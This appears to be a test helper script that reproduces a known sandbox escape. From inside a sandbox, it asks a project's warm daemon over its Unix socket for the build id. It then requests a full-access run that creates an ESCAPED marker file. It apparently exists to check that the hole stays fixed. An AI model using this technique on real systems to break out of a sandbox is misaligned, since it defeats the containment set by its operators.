"""The attack of issue 21 (hole 1) on the warm daemon, as a sandboxed command runs it:
``python _attack_script.py SOCKET REQUEST_FILE``.

It asks the daemon for its ``status``, which names the build id a ``run`` must carry,
then sends a ``run`` request with that build id (``unknown`` if status did not say) and
the argv, working directory and environment of ``REQUEST_FILE`` (JSON, written by the
test: ``run --local --sandbox danger-full-access --workspace WS "run: touch
OUT/ESCAPED"``) with its own stdin, stdout and stderr, as the thin client does, and
prints one line per answer:
``status: ...`` and ``run: ...`` (every line the daemon sent, ``|``-separated, or
``cannot connect: REASON``). Standard library only: it runs inside the sandbox.
"""

from __future__ import annotations

import array
import json
import socket
import sys


def ask(path: str, request: bytes, fds: list[int] | None = None) -> str:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.connect(path)
    except OSError as exc:
        sock.close()
        return f"cannot connect: {exc.strerror}"
    with sock:
        ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds).tobytes())] if fds else []
        sent = sock.sendmsg([request], ancillary)
        if sent < len(request):
            sock.sendall(request[sent:])
        answer = b""
        while True:
            chunk = sock.recv(4096)
            if not chunk:
                break
            answer += chunk
            last = answer.rstrip(b"\n").rsplit(b"\n", 1)[-1]
            if answer.endswith(b"\n") and not last.startswith(b"ok"):
                break  # every answer but "ok" is the last one (exit N, fallback, refused, status)
        return " | ".join(answer.decode(errors="replace").splitlines())


def encode(fields: list[str]) -> bytes:
    payload = "\0".join(fields).encode("utf-8", "surrogateescape")
    return f"{len(payload)}\n".encode() + payload


def main() -> None:
    path, request_file = sys.argv[1], sys.argv[2]
    status = ask(path, encode(["status"]))
    print("status:", status, flush=True)
    build = status.split(" ", 5)[5] if status.startswith("daemon ") else "unknown"
    with open(request_file, encoding="utf-8") as file:
        request = json.load(file)
    argv, env = request["argv"], [f"{name}={value}" for name, value in request["env"].items()]
    fields = ["run", build, request["cwd"], str(len(argv) - 1), str(len(argv)), *argv, *env]
    print("run:", ask(path, encode(fields), [0, 1, 2]), flush=True)


if __name__ == "__main__":
    main()
